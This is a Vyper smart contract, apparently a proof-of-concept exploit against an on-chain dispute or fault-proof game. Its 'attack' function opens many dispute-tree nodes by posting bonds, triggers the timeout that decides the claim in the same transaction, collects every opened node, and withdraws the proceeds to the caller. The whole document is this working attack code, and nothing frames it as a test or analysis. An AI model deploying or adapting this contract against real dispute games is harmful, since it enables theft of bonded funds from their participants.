#pragma version 0.4.3
"""
@title A contract that opens many nodes of a dispute tree in the transaction that decides the claim, to collect at once
"""

struct Segment:
    phase: uint8
    lo: uint64
    hi: uint64
    agreed: bytes32
    disputed: bytes32


struct Target:  # a posted node and the parts of it that are chosen
    node_id: bytes32
    segment: Segment
    hashes: Bytes[2048]
    first: uint8
    after_last: uint8


interface Game:
    def choose(node_id: bytes32, segment: Segment, hashes: Bytes[2048], part: uint8) -> bytes32: payable
    def timeout(node_id: bytes32): nonpayable
    def collect(node_id: bytes32): nonpayable
    def withdraw_to(to: address): nonpayable


@external
@payable
def attack(game: Game, targets: DynArray[Target, 2], deciding: bytes32, bond: uint256):
    opened: DynArray[bytes32, 128] = []
    for target: Target in targets:
        for part: uint8 in range(target.first, target.after_last, bound=64):
            opened.append(extcall game.choose(target.node_id, target.segment, target.hashes, part, value=bond))
    extcall game.timeout(deciding)
    for node_id: bytes32 in opened:
        extcall game.collect(node_id)
    extcall game.withdraw_to(msg.sender)
